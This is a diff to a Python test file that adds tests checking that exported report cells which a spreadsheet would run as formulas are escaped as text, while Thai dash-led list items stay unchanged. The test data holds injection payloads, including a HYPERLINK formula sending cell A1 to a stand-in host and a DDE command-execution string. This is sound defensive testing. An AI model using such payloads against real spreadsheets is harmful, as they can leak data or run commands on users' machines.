@@ -17,6 +17,7 @@ from sqlalchemy import Engine
 
 from tasks.plan.read_text import parse_text
 from tasks.reports.report import FORMATS
+from tasks.reports.safe import as_text
 from tests.reported import ReportedYear, open_year, sample
 
 pytestmark = pytest.mark.one_database
@@ -157,6 +158,19 @@ def test_a_workbook_is_ready_to_print(year: ReportedYear):
     assert all(
         sheet.row_dimensions[n].height <= 409 for n in range(1, sheet.max_row + 1) if sheet.row_dimensions[n].height
     )
+
+
+@pytest.mark.parametrize(
+    "words",
+    ['-ก+HYPERLINK("http://x.example/?"&A1)', "- 2+3+cmd|' /C calc'!A0", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"],
+)
+def test_what_a_spreadsheet_would_run_is_text_even_as_a_list(words: str):
+    assert as_text(words) == "'" + words
+
+
+@pytest.mark.parametrize("words", ["- ประชุมชี้แจง", "-ติดตามผล + รายงาน", "-", "--", "ดำเนินการแล้ว = 3 ครั้ง"])
+def test_a_list_with_dashes_stays_as_it_is_read(words: str):
+    assert as_text(words) == words
 
 
 def test_csv_has_the_sources_columns_in_their_order(engine: Engine):
